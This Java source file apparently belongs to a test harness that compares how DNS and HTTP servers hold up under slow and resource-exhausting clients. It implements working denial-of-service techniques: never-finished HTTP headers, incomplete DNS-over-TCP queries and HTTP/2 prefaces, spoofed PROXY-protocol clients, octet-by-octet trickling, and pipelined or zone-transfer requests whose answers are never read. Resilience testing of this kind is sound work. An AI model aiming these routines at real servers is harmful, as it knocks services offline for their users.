package dev.onoma.comparison;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.function.Predicate;

/// What is done with connections that bring nothing, or little, or take nothing.
final class SlowDeeds {
    private static final int PAUSE_MILLIS = 200;
    private static final byte[] LARGEST_LENGTH = {(byte) 0xff, (byte) 0xff};
    private static final byte[] ZERO = {0};
    private static final int PIPELINED = 50;
    private static final int NOT_READ = 100;

    private SlowDeeds() {}

    /// Opens a connection that will say nothing useful.
    @FunctionalInterface
    interface Opening {
        /// @param number how many were opened before
        Socket open(Victim victim, int number) throws IOException;
    }

    /// Holds connections, each of which says an octet now and then; those that end are replaced.
    static Deed held(int count, Opening opening, Predicate<Socket> goOn) {
        return (victim, untilNanos) -> {
            var sockets = new ArrayDeque<Socket>();
            int opened = 0;
            try {
                while (Deed.isTime(untilNanos)) {
                    opened = fill(sockets, count, opening, opened, victim, untilNanos);
                    Thread.sleep(PAUSE_MILLIS);
                    sockets.removeIf(socket -> !goOn.test(socket));
                }
            } finally {
                for (var socket : sockets) {
                    socket.close();
                }
            }
        };
    }

    private static int fill(
            ArrayDeque<Socket> sockets,
            int count,
            Opening opening,
            int before,
            Victim victim,
            long untilNanos) {
        int opened = before;
        while (sockets.size() < count && Deed.isTime(untilNanos)) {
            try {
                sockets.add(opening.open(victim, opened++));
            } catch (IOException _) {
                break; // full: later again
            }
        }
        return opened;
    }

    private static Predicate<Socket> says(byte... octets) {
        return socket -> {
            try {
                socket.getOutputStream().write(octets);
                return true;
            } catch (IOException _) {
                return false;
            }
        };
    }

    static Socket said(Socket socket, byte... octets) throws IOException {
        socket.getOutputStream().write(octets);
        return socket;
    }

    /// Queries of the largest length, an octet at a time.
    static Deed halfQueries(String door, int count) {
        return held(
                count,
                (victim, _) -> said(victim.open(door, Victim.ATTACKER), LARGEST_LENGTH),
                says(ZERO));
    }

    /// Queries of the largest length of which the last octet is missing.
    static Deed almostWholeQueries(String door, int count) {
        return held(
                count,
                (victim, _) -> {
                    var socket = victim.open(door, Victim.ATTACKER);
                    socket.setSoTimeout(PAUSE_MILLIS);
                    return said(said(socket, LARGEST_LENGTH), new byte[0xfffe]);
                },
                socket -> true);
    }

    /// Requests over HTTP whose header does not end.
    static Deed halfRequests(String door, int count) {
        var begun =
                "GET %s HTTP/1.1\r\nX: "
                        .formatted(Victim.path(door))
                        .getBytes(StandardCharsets.US_ASCII);
        return held(count, (victim, _) -> said(spoken(victim, door), begun), says((byte) 'a'));
    }

    /// Greetings of HTTP/2 of which the end is missing.
    static Deed halfGreetings(String door, int count) {
        return held(
                count,
                (victim, _) ->
                        said(
                                victim.open(door, Victim.ATTACKER),
                                "PRI * HTTP/2.0\r\n".getBytes(StandardCharsets.US_ASCII)),
                socket -> true);
    }

    /// As many connections as there can be, held.
    static Deed connections(String door, int count) {
        return held(count, (victim, _) -> victim.connect(door, Victim.ATTACKER), socket -> true);
    }

    /// The same, each of another client, as a PROXY header says.
    static Deed madeUpClients(int count) {
        return held(
                count,
                (victim, number) ->
                        victim.proxied(Victim.ATTACKER, number % 250, 1024 + number / 250),
                socket -> true);
    }

    /// PROXY headers of which the end is missing.
    static Deed halfProxyHeaders(int count) {
        return held(
                count,
                (victim, _) ->
                        said(
                                victim.connect("proxy", Victim.ATTACKER),
                                "PROXY TCP4".getBytes(StandardCharsets.US_ASCII)),
                says((byte) ' '));
    }

    /// Whole queries, each octet of which comes alone.
    static Deed octetByOctet(String door) {
        var query = Victim.prefixed(Victim.NAME);
        return Deed.again((victim, untilNanos) -> {
            try (var socket = victim.open(door, Victim.ATTACKER)) {
                var out = socket.getOutputStream();
                for (int i = 0; Deed.isTime(untilNanos); i = (i + 1) % query.length) {
                    out.write(query, i, 1);
                    if (i == query.length - 1) {
                        socket.getInputStream().skipNBytes(1);
                        socket.getInputStream().skip(socket.getInputStream().available());
                    }
                }
            }
        });
    }

    /// Asks for small answers without end, and reads none.
    static Deed pipelining(String door) {
        var one = smallRequest(door);
        var many = new ByteArrayOutputStream();
        for (int i = 0; i < PIPELINED; i++) {
            many.writeBytes(one);
        }
        return Deed.again((victim, untilNanos) -> {
            try (var socket = spoken(victim, door)) {
                while (Deed.isTime(untilNanos)) {
                    socket.getOutputStream().write(many.toByteArray());
                }
            }
        });
    }

    private static byte[] smallRequest(String door) {
        return switch (door) {
            case "dns", "tls", "proxy" -> Victim.prefixed(Victim.NAME);
            case "https" -> get("/dns-query?dns=" + Victim.base64(Victim.NAME));
            default -> get(Victim.path(door));
        };
    }

    private static byte[] get(String path) {
        return "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n"
                .formatted(path)
                .getBytes(StandardCharsets.US_ASCII);
    }

    private static Socket spoken(Victim victim, String door) throws IOException {
        return door.equals("https")
                ? victim.encrypted(door, Victim.ATTACKER, "http/1.1")
                : victim.open(door, Victim.ATTACKER);
    }

    /// Connections that end at once, as fast as they can be made.
    static Deed shortConnections(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var socket = victim.connect(door, Victim.ATTACKER)) {
                socket.setSoLinger(true, 0); // no port stays behind
            }
        });
    }

    /// Asks for large answers, and reads none.
    static Deed answersNotRead(String door, int count) {
        return notRead(
                door,
                count,
                switch (door) {
                    case "https" -> get("/dns-query?dns=" + Victim.base64(Victim.BIG_NAME));
                    case "dns", "tls", "proxy" -> Victim.prefixed(Victim.BIG_NAME);
                    default -> get(Victim.path(door));
                });
    }

    /// Asks for transfers of a zone, and reads none.
    static Deed transfersNotRead(String door, int count) {
        return notRead(door, count, Victim.transfer());
    }

    private static Deed notRead(String door, int count, byte[] request) {
        return held(
                count,
                (victim, _) -> {
                    var socket = spoken(victim, door);
                    // Many requests, few octets: what the server's socket takes is not read either.
                    for (int i = 0; i < NOT_READ; i++) {
                        socket.getOutputStream().write(request);
                    }
                    return socket;
                },
                socket -> true);
    }
}
